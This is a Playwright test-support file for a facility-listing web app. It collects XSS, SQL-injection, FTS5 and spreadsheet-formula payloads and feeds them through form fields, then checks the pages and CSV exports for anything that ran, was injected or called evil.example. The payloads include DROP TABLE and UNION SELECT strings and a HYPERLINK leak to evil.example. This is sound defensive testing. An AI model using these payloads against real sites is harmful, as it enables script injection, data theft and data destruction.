import { expect, type Browser, type BrowserContext, type Page } from '@playwright/test';
import Papa from 'papaparse';
import { MARKDOWN_PAYLOADS } from '../worker/test/xss-payloads';
import { test as base } from './support';

// The payload lists the content-safety specs put through every text field (issue 15). The XSS list
// is the Worker tests' (worker/test/xss-payloads.ts: HTML, and Markdown links and images) plus what
// a plain text field meets besides: attribute and element breakouts, template syntax, entities,
// mixed case, null bytes, SVG and MathML, and polyglots. Whatever would run calls alert() (any
// dialog fails the page) or sets window.__pwned; whatever would load asks evil.example, which the
// specs watch.

const EXTRA_XSS = [
  // Breaking out of an attribute, a text element or a script block.
  '"><script>window.__pwned=1</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)' x='",
  '" autofocus onfocus="window.__pwned=1',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</style><img src=x onerror=alert(1)>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<!--<script>alert(1)</script>-->',
  // Mixed case and null bytes.
  '<ScRiPt>alert(1)</sCrIpT>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<a HREF="JaVaScRiPt:alert(1)">x</a>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<img src=x\u0000 onerror=alert(1)>',
  'java\u0000script:alert(1)',
  // Template syntax, which must show as typed (never 49).
  '${alert(1)}',
  '`${window.__pwned=1}`',
  '{{7*7}}',
  "{{constructor.constructor('alert(1)')()}}",
  '#{7*7} <%= 7*7 %> [[7*7]]',
  // Entities that a double decode would turn into markup.
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '&quot;&gt;&lt;svg onload=alert(1)&gt;',
  // SVG and MathML.
  '<svg/onload=window.__pwned=1>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  // URLs a link or an image would follow.
  'javascript:window.__pwned=1//',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://evil.example" target="_blank">phish</a>',
  // Elements that run without a click.
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x contenteditable onblur=alert(1)>lose focus</x>',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<div style="width:expression(alert(1))">css</div>',
  // Look-alikes and direction tricks, which stay as typed.
  '＜script＞alert(1)＜/script＞',
  'abc\u202etxt.exe',
  // Polyglots.
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
  '\'"--></style></script><script>alert(1)</script>',
  '"\'><img src=x onerror=alert(1)>{{7*7}}${7*7}',
];

/** Every XSS payload, once: the Worker tests' HTML and Markdown list, then the extras. */
export const XSS_PAYLOADS: readonly string[] = [...new Set([...MARKDOWN_PAYLOADS, ...EXTRA_XSS])];

/** The usual SQL-injection attempts: they must be stored and shown as typed and change nothing. */
export const SQL_PAYLOADS: readonly string[] = [
  "' OR 1=1 --",
  "' OR '1'='1",
  '" OR ""="',
  "admin'--",
  "'; DROP TABLE facilities; --",
  "'); DROP TABLE users; --",
  '1; DELETE FROM leads',
  "1' UNION SELECT email, password_hash FROM users --",
  "' UNION SELECT name, sql FROM sqlite_master --",
  "%' AND 1=0 UNION SELECT sqlite_version() --",
  "'; UPDATE facilities SET status='rejected'; --",
  "1 AND (SELECT COUNT(*) FROM sqlite_master) > 0",
  "' /* comment */ OR /**/ 1=1 #",
  "'||(SELECT 1)||'",
  '\\\'; SELECT 1; --',
];

/** FTS5 query syntax, which the search box must read as words. */
export const FTS5_PAYLOADS: readonly string[] = [
  '"unterminated',
  'NEAR(rehab detox, 2)',
  'rehab AND OR NOT',
  'name: rehab',
  '{name description}: rehab',
  '^rehab*',
  '(rehab OR',
  '* OR *',
  '- rehab',
  '"" ""',
];

/** Cells a spreadsheet would run as formulas: exports must neutralise them. */
export const FORMULA_PAYLOADS: readonly string[] = [
  '=HYPERLINK("https://evil.example/?leak","click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
];

export const ALL_PAYLOADS: readonly string[] = [...XSS_PAYLOADS, ...SQL_PAYLOADS, ...FTS5_PAYLOADS, ...FORMULA_PAYLOADS];

/**
 * One payload of each kind, short enough for a name: a script, a handler, a script URL, SVG, an
 * attribute and a title breakout, template syntax, entities, mixed case, a null byte, Markdown, a
 * polyglot, SQL, FTS5 and a formula.
 */
export const SHORT_PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<svg/onload=window.__pwned=1>',
  '<math href="javascript:alert(1)">x</math>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</title><script>alert(1)</script>',
  '${alert(1)} {{7*7}}',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '[x](javascript:alert(1))',
  '\'"--></style></script><script>alert(1)</script>',
  "' OR 1=1 --",
  "'; DROP TABLE facilities; --",
  "1' UNION SELECT email, password_hash FROM users --",
  '"unterminated NEAR(a b) *',
  '=HYPERLINK("https://evil.example","x")',
];

/** Fields that hold this many characters take every payload; shorter ones one of each kind. */
const LONG_FIELD = 1000;

/**
 * The payloads packed into values of at most `max` characters, each value one or more payloads
 * joined by a space, so every payload goes through the field in few records: all of them in a
 * field of 1,000 characters or more, one of each kind (SHORT_PAYLOADS) in a shorter one. Payloads
 * longer than the field are left out of it.
 */
export function packed(max: number, payloads: readonly string[] = max >= LONG_FIELD ? ALL_PAYLOADS : SHORT_PAYLOADS): string[] {
  const values: string[] = [];
  for (const payload of [...payloads].filter((p) => p.trim().length <= max).sort((a, b) => b.length - a.length)) {
    const at = values.findIndex((value) => value.length + 1 + payload.length <= max);
    if (at < 0) values.push(payload);
    else values[at] = `${values[at]} ${payload}`;
  }
  return values;
}

// ---------------------------------------------------------------------------------------------
// Watching the browser while it shows them.

/** Hosts a payload would load from: any request there is markup that got through. */
const EVIL_HOSTS = /^https?:\/\/(?:[^/]*\.)?(?:evil|insecure)\.example(?:[:/]|$)/;

/**
 * Records everything that means a payload ran or loaded, on every page of `context`: a dialog (an
 * alert, confirm or prompt), an uncaught error, a request to a payload's host (answered with a
 * script that sets window.__pwned). `expectInertPage` and the fixture below fail on any. Its pages
 * send a client address of their own.
 */
export async function watchContext(context: BrowserContext): Promise<string[]> {
  const incidents: string[] = [];
  const watch = (page: Page) => {
    page.on('dialog', (dialog) => {
      incidents.push(`${dialog.type()} "${dialog.message()}" on ${page.url()}`);
      void dialog.dismiss().catch(() => undefined);
    });
    page.on('pageerror', (error) => incidents.push(`uncaught error on ${page.url()}: ${error.message}`));
  };
  context.pages().forEach(watch);
  context.on('page', watch);
  // A client address of its own: the forms' per-client limits count these pages apart from other specs'.
  await context.setExtraHTTPHeaders({ 'CF-Connecting-IP': clientAddress() });
  await context.route(EVIL_HOSTS, (route) => {
    incidents.push(`request to ${route.request().url()}`);
    return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.__pwned = "evil.example";' });
  });
  return incidents;
}

/**
 * The browser test, whose page is watched from the start; the test fails on any incident at its end.
 * The site's Content-Security-Policy is bypassed (here and in `signedIn`): it would stop an injected
 * handler from running, and these tests prove that the pages inject nothing in the first place.
 */
export const test = base.extend<{ incidents: string[] }>({
  bypassCSP: true,
  incidents: [
    async ({ context }, use) => {
      const incidents = await watchContext(context);
      await use(incidents);
      expect(incidents, 'dialogs, errors and requests to payload hosts').toEqual([]);
    },
    { auto: true },
  ],
});

/**
 * Markup in the live document that only a payload could have put there: an event-handler
 * attribute, a script: or data: URL, a frame, an object, a base, a refresh, a script or style
 * with a payload's body, the image `src=x`. (React sets no on* attributes; the app has none of
 * these elements.) Runs in the page.
 */
function injectedMarkup(): { pwned: unknown; found: string[] } {
  const found: string[] = [];
  const URL_ATTRIBUTES = new Set(['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'poster', 'background', 'srcset']);
  const FOREIGN = new Set(['iframe', 'frame', 'frameset', 'object', 'embed', 'base', 'marquee', 'math', 'template', 'x', 'animate', 'foreignobject', 'form-x']);
  const describe = (el: Element) => `<${el.localName}> ${el.outerHTML.slice(0, 120)}`;
  for (const el of document.querySelectorAll('*')) {
    const tag = el.localName.toLowerCase();
    if (FOREIGN.has(tag)) found.push(`element ${describe(el)}`);
    for (const { name, value } of Array.from(el.attributes)) {
      const attr = name.toLowerCase();
      // eslint-disable-next-line no-control-regex
      const url = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
      if (attr.startsWith('on')) found.push(`handler ${attr} on ${describe(el)}`);
      if (attr === 'srcdoc' || attr === 'formaction') found.push(`${attr} on ${describe(el)}`);
      if (URL_ATTRIBUTES.has(attr) && /^(?:javascript|vbscript|data:text|data:image\/svg|livescript):?/.test(url)) found.push(`${attr}=${value} on ${describe(el)}`);
      // A link may lead anywhere on the web (Markdown makes one of a bare address); nothing may load from there.
      if ((URL_ATTRIBUTES.has(attr) || attr === 'style') && attr !== 'href' && /(?:evil|insecure)\.example/.test(value)) found.push(`${attr}=${value} on ${describe(el)}`);
    }
    if (tag === 'img' && el.getAttribute('src') === 'x') found.push(`image ${describe(el)}`);
    if (tag === 'meta' && el.getAttribute('http-equiv')?.toLowerCase() === 'refresh') found.push(`refresh ${describe(el)}`);
    const body = el.textContent ?? '';
    const json = /json/.test(el.getAttribute('type') ?? '');
    if (tag === 'script' && !json && /alert\(|__pwned/.test(body)) found.push(`script ${describe(el)}`);
    if (tag === 'style' && /display:\s*none|evil\.example|expression\(/.test(body) && el.closest('body')) found.push(`style ${describe(el)}`);
  }
  return { pwned: (window as unknown as { __pwned?: unknown }).__pwned ?? null, found };
}

/**
 * Text as a reader sees it: runs of whitespace are one space, and null bytes are gone (an HTML
 * parser drops them from the Worker's rendered pages; a page rendered in the browser keeps them).
 */
// eslint-disable-next-line no-control-regex
const normalized = (text: string) => text.replace(/[\u0000\uFFFD]/g, '').replace(/\s+/g, ' ').trim();

/** The page's rendered text (inputs' values are not in it), as a reader sees it. */
export const shownText = async (page: Page) => normalized(await page.locator('body').innerText());

/** The `values` that `text` (a page's, or several pages' joined) does not show. */
export const missingFrom = (text: string, values: readonly string[]) => values.filter((value) => !text.includes(normalized(value)));

/**
 * The page shows each of `values` as text, and nothing ran or was injected: no dialog, no error,
 * no request to a payload's host, no window.__pwned, no markup a payload could have added. Answers
 * the page's text.
 */
export async function expectInertPage(page: Page, incidents: readonly string[], values: readonly string[] = []): Promise<string> {
  await expect.poll(async () => missingFrom(await shownText(page), values), { message: `shown as text on ${page.url()}` }).toEqual([]);
  expect(await page.evaluate(injectedMarkup), `injected markup on ${page.url()}`).toEqual({ pwned: null, found: [] });
  expect([...incidents], `on ${page.url()}`).toEqual([]);
  return shownText(page);
}

/**
 * This page of a paged list and every one after it (its "Pages of <noun>" navigation, followed by
 * its Next link), each checked inert; answers their texts joined.
 */
export async function walkPages(page: Page, incidents: readonly string[], noun: string): Promise<string> {
  const pages = page.getByRole('navigation', { name: `Pages of ${noun}` });
  let text = '';
  for (;;) {
    await expect(pages).toContainText(noun);
    text += ` ${await expectInertPage(page, incidents)}`;
    const next = pages.getByRole('link', { name: 'Next' });
    if ((await next.count()) === 0) return text;
    const before = await pages.innerText();
    await next.click();
    await expect(pages).not.toHaveText(before);
  }
}

/**
 * A page's HTML as the Worker sent it holds no payload as markup: every payload with a tag in it is
 * escaped wherever the page repeats it (its title, head tags, JSON-LD, the router's data).
 */
export function expectNoRawMarkup(html: string) {
  expect(XSS_PAYLOADS.filter((payload) => /<[a-z!/]/i.test(payload) && html.includes(payload))).toEqual([]);
}

/**
 * A CSV download, parsed: no cell starts as a formula would (=, +, -, @, tab or carriage return)
 * unless a leading ' neutralises it. Answers its rows.
 */
export function expectNeutralisedCsv(text: string): string[][] {
  const { data, errors } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  expect(errors).toEqual([]);
  const formulas = data.flatMap((row, r) => row.filter((cell) => /^[=+\-@\t\r]/.test(cell)).map((cell) => `line ${r + 1}: ${cell.slice(0, 80)}`));
  expect(formulas, 'cells a spreadsheet would run as formulas').toEqual([]);
  return data;
}

// ---------------------------------------------------------------------------------------------
// Sending them.

/** Phone-shaped payloads: ten digits (the forms ask for an area code) inside at most 40 characters. */
export const PHONE_PAYLOADS: readonly string[] = [
  '<img src=x onerror=alert(1)>5550100199',
  '"><svg/onload=alert(1)>555-010-0199',
  "' OR 1=1 -- (555) 010-0199",
  'javascript:alert(1)//555 010 0199',
  "555-010-0199'; DROP TABLE leads;--",
  '{{7*7}} ${7*7} 555.010.0199',
];

/**
 * Records for a form whose fields take `fields` (a field's maximum length, or its own list): field
 * f of record r holds the r-th packed value for f, cycling, and there are as many records as the
 * field needing most. Every payload that fits a field goes through it.
 */
export function records<K extends string>(fields: Record<K, number | readonly string[]>): Record<K, string>[] {
  const values = Object.entries(fields).map(([name, spec]) => [name, typeof spec === 'number' ? packed(spec) : spec] as const);
  const count = Math.max(...values.map(([, list]) => (list as readonly string[]).length));
  return Array.from({ length: count }, (_, r) =>
    Object.fromEntries(values.map(([name, list]) => [name, (list as readonly string[])[r % (list as readonly string[]).length]!])) as Record<K, string>,
  );
}

let lastClient = Math.floor(Math.random() * 60_000);
/**
 * A client address of its own (the header Cloudflare sets): the public forms' per-client limits
 * then count this spec's requests apart from each other's and from the other specs'.
 */
export function clientAddress(): string {
  lastClient = (lastClient + 1) % 65_536;
  return `198.18.${lastClient >> 8}.${lastClient & 255}`;
}

const origin = () => new URL(String(test.info().project.use.baseURL)).origin;

/**
 * A JSON call to the Worker with the page's cookies (its signed-in user), from our own origin and
 * a client address of its own; expects one of `statuses` and answers the body.
 */
export async function call<T = Record<string, unknown>>(
  page: Page,
  method: 'GET' | 'POST' | 'PUT' | 'PATCH' | 'DELETE',
  path: string,
  data?: unknown,
  statuses: readonly number[] = [200, 201],
): Promise<T> {
  const response = await page.request.fetch(path, {
    method,
    headers: { Origin: origin(), 'CF-Connecting-IP': clientAddress() },
    ...(data === undefined ? {} : { data }),
  });
  expect(statuses, `${method} ${path}: ${response.status()} ${(await response.text()).slice(0, 300)}`).toContain(response.status());
  return (response.status() === 204 ? {} : await response.json()) as T;
}

/** Runs `task` over `items`, `width` at a time (the Worker answers them as fast in parallel, up to a point). */
export async function inParallel<T, R>(items: readonly T[], task: (item: T, index: number) => Promise<R>, width = 6): Promise<R[]> {
  const results: R[] = [];
  for (let start = 0; start < items.length; start += width) {
    results.push(...(await Promise.all(items.slice(start, start + width).map((item, i) => task(item, start + i)))));
  }
  return results;
}

/** The number of published listings (open data's total): SQL in a field must never change it. */
export async function publishedCount(page: Page): Promise<number> {
  return (await call<{ total: number }>(page, 'GET', '/api/open-data/facilities?limit=1')).total;
}

/** Web addresses the forms accept (http(s), a dot, no spaces) that carry a payload. */
export const WEBSITE_PAYLOADS: readonly string[] = [
  'https://x.example/"><script>alert(1)</script>',
  "https://x.example/'onmouseover='alert(1)'",
  'https://x.example/?q=<img/src=x/onerror=alert(1)>',
  'http://x.example/#javascript:alert(1)',
  "https://x.example/?id=1'OR'1'='1';--",
  'https://x.example/{{7*7}}${7*7}',
];

/** ZIP codes' worth (ten characters). */
export const ZIP_PAYLOADS: readonly string[] = ["'OR 1=1--", '<b>1</b>', '"><i>', '${7*7}', '{{7*7}}', "';--", '<!--'];

/** Email addresses the forms accept that carry SQL quotes and comments. */
export const EMAIL_PAYLOADS: readonly string[] = ["o'r'1'--@test.example.org", "x'+or+'1@test.example.org", "admin'--@test.example.org"];

/** `packed`, of the payloads a person can type into a text input: no line breaks, no null bytes. */
export const typeable = (max: number) =>
  packed(
    max,
    // eslint-disable-next-line no-control-regex
    (max >= LONG_FIELD ? ALL_PAYLOADS : SHORT_PAYLOADS).filter((p) => !/[\u0000\n]/.test(p)),
  );

export const PASSWORD = 'Quiet Harbor 2026';

/** A context of its own, watched (`watchContext`), signed in through the API as `role`; its page. */
export async function signedIn(browser: Browser, role: 'admin' | 'facility', email: string, password = PASSWORD) {
  const context = await browser.newContext({ bypassCSP: true });
  const incidents = await watchContext(context);
  const page = await context.newPage();
  await call(page, 'POST', `/api/${role}/session`, { email, password });
  return { page, incidents };
}

/** A whole, valid registration (the signup wizard's five steps), with `fields` over it. */
export function registration(email: string, fields: Record<string, string> = {}) {
  return {
    email,
    password: PASSWORD,
    confirmPassword: PASSWORD,
    facilityName: `Safe Harbor ${Date.now().toString(36)} Recovery`,
    contactPerson: 'Avery Stone',
    title: '',
    phone: '(307) 555-0142',
    website: '',
    address: '8 Pier Street',
    city: 'Cheyenne',
    state: 'WY',
    zipCode: '82001',
    description: 'Outpatient programs for adults.',
    established: '',
    treatmentTypes: ['outpatient'],
    specializations: [],
    capacity: '',
    accreditation: '',
    agreeToTerms: true,
    agreeToReview: true,
    ...fields,
  };
}

/** Registers a facility and approves it as the signed-in admin (`admin`); its listing's id. */
export async function approvedListing(admin: Page, email: string, fields: Record<string, string> = {}): Promise<number> {
  const { id } = await call<{ id: number }>(admin, 'POST', '/api/facility/registrations', registration(email, fields));
  await call(admin, 'POST', `/api/admin/submissions/${id}/approve`, {});
  return (await call<{ submission: { facilityId: number } }>(admin, 'GET', `/api/admin/submissions/${id}`)).submission.facilityId;
}
